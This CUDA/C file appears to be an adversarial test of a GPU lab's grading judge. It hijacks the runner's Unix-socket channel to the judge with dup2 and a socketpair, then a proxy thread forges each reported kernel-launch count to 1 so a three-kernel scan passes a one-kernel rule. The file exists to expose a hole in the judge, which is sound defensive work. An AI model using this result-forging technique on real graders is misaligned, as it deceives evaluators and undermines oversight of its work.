/* Class 3 (the sandbox's one door, the socket, used against the judge): the runner counts the kernels a
 * call launches (its wrappers of the launch functions) and sends the count in its DONE message; the
 * judge refuses a call of more than one kernel. This file launches three (a reduce, a scan of the tiles'
 * sums, a scan: tests/cheats/ch4_lookback_scan.three_kernels.cu's, no look-back) and rewrites the count:
 * it puts a socketpair in place of the runner's channel (dup2 onto the socket whose peer is the
 * --channel path) and a thread between them that parses the protocol and sets every DONE's launches to 1.
 * A correct judge should say: FAIL (three kernels where the lab allows one; the count must not be the
 * student process's to say). Expected today: PASS (the proxy is README's open hole; the count is forged
 * without naming any of the runner's symbols, which the rules refuse). */
/* ---- the proxy: the runner's channel to the judge replaced by a socketpair, a thread in between ---- */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

struct p_hdr { uint32_t magic, type; uint64_t bytes; };
struct p_arg { uint32_t kind, flags; uint64_t bytes; int64_t i; double f; uint32_t shared, unused; };
struct p_call { uint32_t count, unused; struct p_arg arg[16]; };
struct p_done { int32_t status; uint32_t launches, elapsed; char error[484]; };
static int p_judge = -1, p_runner = -1;
static double p_sent;  /* when the judge's request had all passed to the runner */

static double p_now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}
static void p_read(int fd, void *b, size_t n)
{
    for (char *p = (char *)b; n;) {
        ssize_t g = recv(fd, p, n, 0);
        if (g <= 0)
            _exit(0);
        p += g, n -= (size_t)g;
    }
}
static void p_write(int fd, const void *b, size_t n)
{
    for (const char *p = (const char *)b; n;) {
        ssize_t g = send(fd, p, n, MSG_NOSIGNAL);
        if (g <= 0)
            _exit(0);
        p += g, n -= (size_t)g;
    }
}
static void p_copy(int from, int to, uint64_t n)
{
    static char b[1 << 16];
    while (n) {
        size_t k = n < sizeof b ? (size_t)n : sizeof b;
        p_read(from, b, k), p_write(to, b, k), n -= k;
    }
}
/* the runner's answer: its header and DONE, patched by p_patch (the lab's), then `more` bytes */
static void p_patch(uint32_t request, struct p_done *d);
static void p_request(uint32_t request);  /* a request's header has come, not yet passed on */
static void p_answer(uint32_t request, uint64_t more)
{
    struct p_hdr h;
    struct p_done d;
    p_read(p_runner, &h, sizeof h), p_read(p_runner, &d, sizeof d);
    p_patch(request, &d);
    p_write(p_judge, &h, sizeof h), p_write(p_judge, &d, sizeof d);
    if (d.status == 0)
        p_copy(p_runner, p_judge, more);
}
static void *p_loop(void *unused)
{
    (void)unused;
    /* the first call's answer (its size unknown here) passes as it is, until the judge speaks again */
    char b[4096];
    for (;;) {
        ssize_t g = recv(p_runner, b, sizeof b, MSG_DONTWAIT);
        if (g > 0) {
            p_write(p_judge, b, (size_t)g);
            continue;
        }
        char c;
        if (recv(p_judge, &c, 1, MSG_PEEK | MSG_DONTWAIT) == 1 && recv(p_runner, b, 1, MSG_PEEK | MSG_DONTWAIT) <= 0)
            break;
    }
    for (;;) {
        struct p_hdr h;
        p_read(p_judge, &h, sizeof h);
        p_request(h.type);
        p_write(p_runner, &h, sizeof h);
        if (h.type == 2) {  /* CALL */
            struct p_call w;
            p_read(p_judge, &w, sizeof w), p_write(p_runner, &w, sizeof w);
            uint64_t back = 0;
            for (uint32_t a = 0; a < w.count && a < 16; a++)
                if ((w.arg[a].kind == 3 || w.arg[a].kind == 4) && !(w.arg[a].flags & 4)) {
                    if (w.arg[a].flags & 1)
                        p_copy(p_judge, p_runner, w.arg[a].bytes);
                    if (w.arg[a].flags & 2)
                        back += w.arg[a].bytes;
                    if (w.arg[a].kind == 3 && (w.arg[a].flags & 8))  /* LAB_GUARD: its 4 KiB follow */
                        back += 4096;
                }
            p_sent = p_now();
            p_answer(2, back);
        } else if (h.type == 4) {  /* SHARE: its payload may carry a file descriptor */
            char payload[16], control[CMSG_SPACE(sizeof(int))];
            struct iovec io = {payload, sizeof payload};
            struct msghdr m;
            memset(&m, 0, sizeof m), memset(control, 0, sizeof control);
            m.msg_iov = &io, m.msg_iovlen = 1, m.msg_control = control, m.msg_controllen = sizeof control;
            ssize_t g = recvmsg(p_judge, &m, 0);
            if (g <= 0)
                _exit(0);
            if (g < 16)
                p_read(p_judge, payload + g, 16 - (size_t)g);
            io.iov_len = 16;
            if (!CMSG_FIRSTHDR(&m))
                m.msg_control = NULL, m.msg_controllen = 0;
            if (sendmsg(p_runner, &m, MSG_NOSIGNAL) != 16)
                _exit(0);
            p_answer(4, 64);
        } else if (h.type == 5 || h.type == 6) {  /* NOOP, TOUCH */
            p_sent = p_now();
            p_answer(h.type, 0);
        } else {  /* QUIT */
            return NULL;
        }
    }
}
/* Called from the lab's function, while the runner's thread is here (not reading its channel). */
static void p_start(void)
{
    static int done;
    if (done++)
        return;
    char cmd[4096] = {0}, *path = NULL;
    FILE *f = fopen("/proc/self/cmdline", "r");
    size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
    if (f)
        fclose(f);
    for (size_t i = 0; i < n; i += strlen(cmd + i) + 1)
        if (!strcmp(cmd + i, "--channel"))
            path = cmd + i + strlen(cmd + i) + 1;
    for (int fd = 0; path && fd < 1024; fd++) {
        struct sockaddr_un a;
        socklen_t l = sizeof a;
        memset(&a, 0, sizeof a);
        if (getpeername(fd, (struct sockaddr *)&a, &l) || a.sun_family != AF_UNIX || strcmp(a.sun_path, path))
            continue;
        int sv[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv))
            return;
        p_judge = dup(fd), p_runner = sv[1];
        dup2(sv[0], fd), close(sv[0]);
        pthread_t t;
        pthread_create(&t, NULL, p_loop, NULL);
        fprintf(stderr, "ATTACK: proxy on the channel (fd %d)\n", fd);
        return;
    }
    fprintf(stderr, "ATTACK: no channel found\n");
}
/* ---- end of the proxy ---- */

static void p_request(uint32_t request) { (void)request; }
static void p_patch(uint32_t request, struct p_done *d)
{
    if (request == 2 && d->launches > 1)
        d->launches = 1;
}

#define THREADS 256
#define ITEMS 16
#define TILE (THREADS * ITEMS)

/* The block's exclusive scan of one int a thread (any whole number of warps); *total: the block's sum. */
__device__ int block_exclusive(int mine, int *total)
{
    __shared__ int warps[32];
    int lane = threadIdx.x % 32, warp = threadIdx.x / 32, x = mine;
    for (int d = 1; d < 32; d *= 2) {
        int y = __shfl_up_sync(0xffffffffu, x, d);
        if (lane >= d)
            x += y;
    }
    if (lane == 31)
        warps[warp] = x;
    __syncthreads();
    int before = 0, all = 0;
    for (int w = 0; w < (int)blockDim.x / 32; w++) {
        before += w < warp ? warps[w] : 0;
        all += warps[w];
    }
    __syncthreads();
    *total = all;
    return before + x - mine;
}

/* Kernel 1: status[t] = tile t's sum. */
__global__ void tile_sums(const int *in, long long n, unsigned long long *status)
{
    long long first = blockIdx.x * (long long)TILE;
    int sum = 0, total;
    for (int j = 0; j < ITEMS; j++) {
        long long i = first + threadIdx.x + (long long)j * THREADS;
        sum += i < n ? in[i] : 0;
    }
    block_exclusive(sum, &total);
    if (threadIdx.x == 0)
        status[blockIdx.x] = (unsigned)total;
}

/* Kernel 2, one block of 1024 threads, each a stretch of tiles: status[t] = the sum of the tiles before t. */
__global__ void scan_sums(unsigned long long *status, long long tiles)
{
    long long each = (tiles + blockDim.x - 1) / blockDim.x, from = threadIdx.x * each;
    long long to = from + each < tiles ? from + each : tiles;
    int sum = 0, total;
    for (long long t = from; t < to; t++)
        sum += (int)status[t];
    int before = block_exclusive(sum, &total);
    for (long long t = from; t < to; t++) {
        int here = (int)status[t];
        status[t] = (unsigned)before;
        before += here;
    }
}

/* Kernel 3: each tile, scanned, plus its prefix. */
__global__ void scan(const int *in, int *out, long long n, unsigned long long *status, unsigned *counter)
{
    long long first = blockIdx.x * (long long)TILE, mine = first + (long long)threadIdx.x * ITEMS;
    bool whole = first + TILE <= n;
    int v[ITEMS], sum = 0, total;
    for (int q = 0; q < ITEMS / 4; q++) {
        int4 w = whole ? ((const int4 *)(in + mine))[q] : make_int4(0, 0, 0, 0);
        v[4 * q] = w.x, v[4 * q + 1] = w.y, v[4 * q + 2] = w.z, v[4 * q + 3] = w.w;
    }
    for (int j = 0; j < ITEMS && !whole; j++)
        v[j] = mine + j < n ? in[mine + j] : 0;
    for (int j = 0; j < ITEMS; j++)
        sum += v[j];
    int prefix = block_exclusive(sum, &total) + (int)status[blockIdx.x];
    for (int j = 0; j < ITEMS; j++)
        v[j] = prefix += v[j];
    for (int q = 0; q < ITEMS / 4 && whole; q++)
        ((int4 *)(out + mine))[q] = make_int4(v[4 * q], v[4 * q + 1], v[4 * q + 2], v[4 * q + 3]);
    for (int j = 0; j < ITEMS && !whole; j++)
        if (mine + j < n)
            out[mine + j] = v[j];
}

/* The runner calls this with arrays on the GPU: status has (n + TILE - 1) / TILE words. */
void lab_scan(const int *in, int *out, long long n, unsigned long long *status, unsigned *counter)
{
    p_start();
    long long tiles = (n + TILE - 1) / TILE;
    tile_sums<<<(unsigned)tiles, THREADS>>>(in, n, status);
    scan_sums<<<1, 1024>>>(status, tiles);
    scan<<<(unsigned)tiles, THREADS>>>(in, out, n, status, counter);
}
